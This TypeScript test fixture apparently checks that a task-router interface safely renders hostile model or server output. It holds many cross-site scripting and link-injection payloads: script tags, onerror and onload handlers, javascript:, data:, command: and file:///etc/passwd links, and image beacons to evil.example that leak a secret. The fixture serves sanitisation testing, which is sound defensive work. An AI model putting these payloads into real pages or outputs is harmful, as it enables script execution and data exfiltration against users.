/** What a hostile model or server may send; none of it may load, run or navigate. */
import type { TaskView } from '@task-router/protocol';
import { candidate, decision, outcome, qwen, rejected, task } from './samples.ts';

const hostileName = '<img src=x onerror="window.hostile=1"><script>window.hostile=2</script>](command:evil)';
const hostileRoute = candidate(`evil/${hostileName}`, 'openai-compatible', [0.9, 0.8, 0.7, 0.6], {
  label: hostileName,
});

export const hostileAnswer = `# <script>window.hostile = 3</script>

<img src="https://evil.example/leak.png" onerror="window.hostile = 4"> <iframe src="https://evil.example/"></iframe>
<style>body { display: none }</style> <form action="https://evil.example/"><button>go</button></form>

![leak](https://evil.example/leak.png?secret) ![inline](data:image/png;base64,AAAA)

[command](command:workbench.action.terminal.new) [script](javascript:window.hostile=5) [data](data:text/html,<script>window.hostile=6</script>)
[http](http://evil.example/) [file](file:///etc/passwd) [vscode](vscode://evil/) [relative](/etc/passwd) [creds](https://user:pass@evil.example/)
[fine](https://example.com/path?q=1) <https://example.com/auto> <javascript:alert(1)>

[ref]: javascript:window.hostile=7
[ref] and [quoted](https://example.com/" onclick="window.hostile=8)

\`\`\`html "><img src=x onerror=window.hostile=9>
<img src=x onerror="window.hostile=10">
\`\`\`

<svg onload="window.hostile=11"><a xlink:href="javascript:window.hostile=12">x</a></svg> <math><mtext><style><img src=x onerror=window.hostile=13></style></mtext></math>
`;

export const hostileTask: TaskView = task('t1', {
  title: hostileName,
  decision: decision('t1', {
    route: hostileRoute.route,
    summary: hostileName,
    candidates: [
      hostileRoute,
      rejected(`x/${hostileName}`, 'google', {
        code: 'policy.denied',
        reason: hostileName,
        setting: hostileName,
      }),
    ],
    context: [{ file: hostileName, range: null, bytes: 1 }],
    settings: [hostileName],
  }),
  transitions: [
    {
      from: hostileRoute.route,
      to: qwen.route,
      cause: 'server',
      message: hostileName,
      mode: 'restart',
      atMs: Date.now(),
    },
  ],
  text: hostileAnswer,
  outcome: outcome({ route: hostileRoute.route }),
  error: { code: hostileName.slice(0, 99), message: hostileName, next: hostileName },
});
